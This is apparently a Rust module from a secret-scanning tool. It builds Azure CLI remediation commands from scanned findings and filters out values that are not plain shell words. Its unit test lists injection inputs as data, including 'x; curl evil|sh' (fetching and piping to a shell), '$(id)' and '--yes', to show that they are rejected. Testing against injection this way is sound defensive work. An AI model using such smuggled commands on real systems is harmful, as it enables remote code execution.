//! Commands filled with what a finding knows.
//!
//! A part comes from the scanned content, which anybody may have written: only
//! values that a shell takes as one plain word are put into a command.

use crate::model::{Part, Phase, Remedy, Step};

use super::tables::{Ground, Role, Row};

/// Parts that are meant as they are, not as names of resources.
const ADDRESSES: [&str; 4] = ["endpoint", "url", "address", "path"];

/// Endings of the hosts of database servers in Azure.
const SERVERS: [&str; 4] =
    [".database.windows.net", ".postgres.database.azure.com", ".mysql.database.azure.com", ".sql.azuresynapse.net"];

fn host_of(part: &Part) -> String {
    part.value.split([',', ':', '/']).next().unwrap_or_default().to_ascii_lowercase()
}

/// A host tells the resource that it belongs to.
fn is_address_of(name: &str, part: &Part) -> bool {
    let ending = match name {
        "app" => ".azurewebsites.net",
        "cache" => ".redis.cache.windows.net",
        "vault" => ".vault.azure.net",
        "account" => ".documents.azure.com",
        "server" => return part.name == "host" && SERVERS.iter().any(|ending| host_of(part).ends_with(ending)),
        _ => return false,
    };
    part.name == "host" && host_of(part).ends_with(ending)
}

/// The steps of a row, with the finding's parts in their commands; `route`: what a place's row stands beside.
pub(super) fn filled(row: &Row, parts: &[Part], ground: Ground, route: &str) -> Remedy {
    let steps = row
        .steps
        .iter()
        .filter(|step| step.only.is_empty() || step.only.contains(&ground))
        .filter(|step| step.beside.is_empty() || step.beside.iter().any(|beside| beside == route))
        .map(|step| Step {
            phase: step.phase.unwrap_or(row.phase),
            text: fill(&step.text, parts),
            command: step.command.as_ref().map(|text| fill(text, parts)),
        })
        .collect();
    Remedy { title: row.title.clone(), because: None, steps, still_secret: row.still_secret, asks: false }
}

/// Roles as steps: those of one service together, for the reader to take what is enough.
pub(super) fn grants(roles: &[&Role], parts: &[Part]) -> Vec<Step> {
    let mut services: Vec<Vec<&Role>> = Vec::new();
    for role in roles {
        let begins = |role: &Role| {
            let own = role.command.as_deref().and_then(|command| command.split(" --").next()).map(str::to_owned);
            own.or_else(|| role.scope_command.clone())
        };
        let is_same = |other: &Role| begins(role).is_some() && begins(other) == begins(role);
        match services.iter_mut().find(|service| service.iter().any(|other| is_same(other))) {
            Some(service) => service.push(role),
            None => services.push(vec![role]),
        }
    }
    services.iter().map(|service| together(service, parts)).collect()
}

fn together(roles: &[&Role], parts: &[Part]) -> Step {
    let steps: Vec<Step> = roles.iter().map(|role| grant(role, parts)).collect();
    match <[Step; 1]>::try_from(steps) {
        Ok([step]) => step,
        Err(steps) => {
            let texts: Vec<&str> = steps.iter().map(|step| step.text.as_str()).collect();
            let commands: Vec<&str> = steps.iter().filter_map(|step| step.command.as_deref()).collect();
            Step {
                phase: Phase::Grant,
                text: format!("what it needs of these: {}", texts.join("; ")),
                command: (!commands.is_empty()).then(|| commands.join("\n")),
            }
        }
    }
}

/// Roles of many services, of which one is meant.
pub(super) fn choice(roles: &[&Role]) -> Step {
    let names: Vec<&str> = roles.iter().map(|role| role.name.as_str()).collect();
    let text = format!("the least data role of the service that it opens, at that resource: {}", names.join(", "));
    Step { phase: Phase::Grant, text, command: None }
}

/// A role, as a step.
pub(super) fn grant(role: &Role, parts: &[Part]) -> Step {
    let mut text = role.name.clone();
    if !role.guid.is_empty() {
        text.push_str(&format!(" ({})", role.guid));
    }
    if !role.scope.is_empty() {
        text.push_str(&format!(" on the {}", role.scope));
    }
    if !role.note.is_empty() {
        text.push_str(&format!(": {}", fill(&role.note, parts)));
    }
    Step { phase: Phase::Grant, text, command: command(role, parts) }
}

/// The assignment, at the resource if the finding names it; `None` where no Azure role is assigned.
fn command(role: &Role, parts: &[Part]) -> Option<String> {
    if let Some(own) = &role.command {
        return Some(fill(own, parts));
    }
    if role.guid.is_empty() {
        return None;
    }
    let scope = match &role.scope_command {
        Some(query) => format!("$({})", fill(query, parts)),
        None => "<resource-id>".to_owned(),
    };
    let principal = role.of.as_ref().map(|of| format!("{of}-")).unwrap_or_default();
    Some(format!(
        "az role assignment create --assignee-object-id <{principal}principal-id> --assignee-principal-type ServicePrincipal --role {} --scope \"{scope}\"",
        role.guid
    ))
}

/// `{account}` becomes the part of that name, or `<account>` if it is not known.
pub(super) fn fill(text: &str, parts: &[Part]) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find('{') {
        let (before, from) = rest.split_at(start);
        out.push_str(before);
        let name_length = from[1..].find(|c: char| !c.is_ascii_lowercase() && c != '-').unwrap_or(from.len() - 1);
        if name_length > 0 && from[1 + name_length..].starts_with('}') {
            let name = &from[1..=name_length];
            match known(name, parts) {
                Some(value) => out.push_str(&value),
                None => out.push_str(&format!("<{name}>")),
            }
            rest = &from[name_length + 2..];
        } else {
            out.push('{');
            rest = &from[1..];
        }
    }
    out.push_str(rest);
    out
}

/// What switches keys off at a resource that it leaves open says nothing beside a step that names the resource.
pub(super) fn without_open_ones(remedies: &mut [Remedy]) {
    let is_open = |step: &Step| {
        step.phase == Phase::Disable && step.command.as_ref().is_some_and(|command| command.contains("<resource-id>"))
    };
    let is_named = |step: &Step| step.phase == Phase::Disable && step.command.is_some() && !is_open(step);
    if remedies.iter().flat_map(|remedy| &remedy.steps).any(is_named) {
        remedies.iter_mut().for_each(|remedy| remedy.steps.retain(|step| !is_open(step)));
    }
}

/// The step that makes an identity, where the templates give it one already.
pub(super) fn of_one_that_is_there(remedy: &mut Remedy, kind: &str, path: &str) {
    for step in &mut remedy.steps {
        let Some(command) = step.command.as_mut().filter(|command| command.contains(" identity assign ")) else {
            continue;
        };
        let query = if kind.contains("UserAssigned") {
            "--query \"userAssignedIdentities.*.principalId\""
        } else {
            "--query principalId"
        };
        let made = command.split(" --query ").next().unwrap_or_default().replace(" --system-assigned", "");
        *command = format!("{} {query} -o tsv", made.replace(" identity assign ", " identity show "));
        step.text = format!("it has an identity already ({kind} in {path}); this prints its <principal-id>");
    }
}

/// At a desk the identity is the developer's own: no service principal, and no id to look up by hand.
pub(super) fn of_a_person(remedy: &mut Remedy) {
    for command in remedy.steps.iter_mut().filter_map(|step| step.command.as_mut()) {
        *command = command
            .replace("--assignee-principal-type ServicePrincipal", "--assignee-principal-type User")
            .replace("<principal-id>", "\"$(az ad signed-in-user show --query id -o tsv)\"")
            .replace("\"\"$(", "\"$(")
            .replace("-o tsv)\"\"", "-o tsv)\"");
    }
}

/// What the parts of a finding say of a name.
pub(super) fn known(name: &str, parts: &[Part]) -> Option<String> {
    let value = |part: &Part| {
        if ADDRESSES.contains(&name) { part.value.clone() } else { part.resource_name().to_owned() }
    };
    let is_meant = |part: &&Part| part.name == name || is_address_of(name, part);
    parts.iter().filter(is_meant).map(value).find(|value| is_plain_word(value))
}

pub(super) fn is_plain_word(text: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-@:/".contains(&byte);
    (1..=200).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_plain_words_enter_a_command() {
        let part = |value: &str| vec![Part { name: "account".to_owned(), value: value.to_owned(), line: None }];
        let command = "az storage account keys renew -n {account} --query \"[].{keyId:keyId}\"";
        for (value, filled) in [
            ("contoso", "az storage account keys renew -n contoso --query \"[].{keyId:keyId}\""),
            ("x; curl evil|sh", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
            (
                "contoso.redis.cache.windows.net",
                "az storage account keys renew -n contoso --query \"[].{keyId:keyId}\"",
            ),
            ("--yes", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
            ("$(id)", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
        ] {
            assert_eq!(fill(command, &part(value)), filled, "{value}");
        }
    }
}
